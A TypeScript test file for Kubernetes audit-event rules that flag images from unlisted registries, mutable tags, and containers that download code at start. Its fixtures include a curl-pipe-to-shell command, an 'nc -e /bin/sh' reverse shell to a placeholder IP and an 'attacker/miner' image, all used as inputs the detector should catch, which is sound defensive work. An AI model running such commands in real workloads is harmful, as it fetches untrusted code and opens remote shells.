import type { Settings } from '../../../lambdas/core/config/settings';
import { DEFAULT_SETTINGS } from '../../../lambdas/core/config/settings';
import type { Rule } from '../../../lambdas/core/detect/rule';
import { untrustedImageRules } from '../../../lambdas/core/rules/untrusted-image';
import { auditEvent } from '../../helpers/events';
import { controllerSA, failed, fire, plain, privileged, ruleById, severity, workloadWrite } from './support/workloads';

const rule = (id: string): Rule => ruleById(untrustedImageRules, id);

describe('image.registry-not-allowed', () => {
  const r = rule('image.registry-not-allowed');
  const allowlist: Settings = {
    ...DEFAULT_SETTINGS,
    images: { allowedRegistries: ['registry.example.com', '*.dkr.ecr.*.amazonaws.com'], flagMutableTags: true },
  };

  it('reports images from outside the allowlist, higher when the spec is privileged', () => {
    const [hit] = fire(r, workloadWrite('deployments', plain('docker.io/attacker/miner:1')), allowlist);
    expect(hit.severity).toBe('medium');
    expect(hit.summary).toBe('alice@example.com created Deployment default/web with image docker.io/attacker/miner:1 from outside the allowed registries');
    expect(severity(r, workloadWrite('pods', privileged('a', 'nginx')), allowlist)).toBe('high');
  });

  it('checks the images a patch sets, and ephemeral containers', () => {
    const patch = [{ op: 'replace', path: '/spec/template/spec/containers/0/image', value: 'ghcr.io/x/y:1' }];
    expect(severity(r, workloadWrite('deployments', plain(), { verb: 'patch', level: 'Request', patch }), allowlist)).toBe('medium');
    expect(fire(r, workloadWrite('deployments', plain('ghcr.io/x/y:1'), { verb: 'patch', patch: { spec: { replicas: 2 } } }), allowlist)).toEqual([]);
    const debug = auditEvent({
      level: 'Request',
      verb: 'patch',
      objectRef: { resource: 'pods', subresource: 'ephemeralcontainers', namespace: 'prod', name: 'api-0', apiVersion: 'v1' },
      requestObject: { spec: { ephemeralContainers: [{ name: 'dbg', image: 'busybox' }] } },
    });
    expect(severity(r, debug, allowlist)).toBe('medium');
  });

  it('is quiet on near misses', () => {
    expect(fire(r, workloadWrite('deployments', plain('docker.io/attacker/miner:1')))).toEqual([]); // no allowlist set
    expect(fire(r, workloadWrite('deployments', plain('123456789012.dkr.ecr.eu-west-1.amazonaws.com/app:1')), allowlist)).toEqual([]);
    expect(fire(r, failed(workloadWrite('deployments', plain('docker.io/attacker/miner:1'))), allowlist)).toEqual([]);
    expect(fire(r, workloadWrite('pods', plain('nginx'), { user: controllerSA('replicaset-controller') }), allowlist)).toEqual([]);
  });
});

describe('image.mutable-tag', () => {
  const r = rule('image.mutable-tag');

  it('notes latest and untagged images on new workloads as low', () => {
    const [hit] = fire(
      r,
      workloadWrite('deployments', {
        containers: [
          { name: 'a', image: 'nginx' },
          { name: 'b', image: 'redis:latest' },
        ],
      }),
    );
    expect(hit.severity).toBe('low');
    expect(hit.summary).toBe('alice@example.com created Deployment default/web with mutable image tags nginx, redis:latest');
  });

  it('is quiet on near misses', () => {
    expect(fire(r, workloadWrite('deployments', plain('nginx:1.27.2')))).toEqual([]);
    expect(fire(r, workloadWrite('deployments', plain('nginx@sha256:0d17b565c37bcbd895e9d92315a05c1c3c9a29f762b011a10c54a66cd53c9b31')))).toEqual([]);
    expect(fire(r, workloadWrite('deployments', plain('nginx'), { verb: 'update' }))).toEqual([]);
    expect(fire(r, workloadWrite('pods', plain('nginx'), { user: controllerSA('replicaset-controller') }))).toEqual([]);
    const off: Settings = { ...DEFAULT_SETTINGS, images: { allowedRegistries: [], flagMutableTags: false } };
    expect(fire(r, workloadWrite('deployments', plain('nginx')), off)).toEqual([]);
  });
});

describe('image.fetches-code-at-start', () => {
  const r = rule('image.fetches-code-at-start');

  it('reports containers that download and run code, reverse shells as critical', () => {
    const fetcher = { containers: [{ name: 'app', image: 'alpine:3', command: ['sh', '-c', 'apk add curl && curl -fsSL https://203.0.113.9/i.sh | sh'] }] };
    const [hit] = fire(r, workloadWrite('statefulsets', fetcher));
    expect(hit.severity).toBe('high');
    expect(hit.summary).toBe('alice@example.com created StatefulSet default/web: container app downloads and runs code');
    const reverse = {
      initContainers: [{ name: 'init', image: 'alpine:3', args: ['sh', '-c', 'nc 203.0.113.9 9001 -e /bin/sh'] }],
      containers: [{ name: 'app' }],
    };
    expect(severity(r, workloadWrite('pods', reverse))).toBe('critical');
  });

  it('is quiet on near misses', () => {
    expect(fire(r, workloadWrite('deployments', { containers: [{ name: 'app', command: ['sh', '-c', 'exec /app/server --port 8080'] }] }))).toEqual([]);
    const fetcher = { containers: [{ name: 'app', command: ['sh', '-c', 'curl http://x/i | sh'] }] };
    expect(fire(r, failed(workloadWrite('deployments', fetcher)))).toEqual([]);
    expect(fire(r, workloadWrite('pods', fetcher, { user: controllerSA('job-controller') }))).toEqual([]);
  });
});
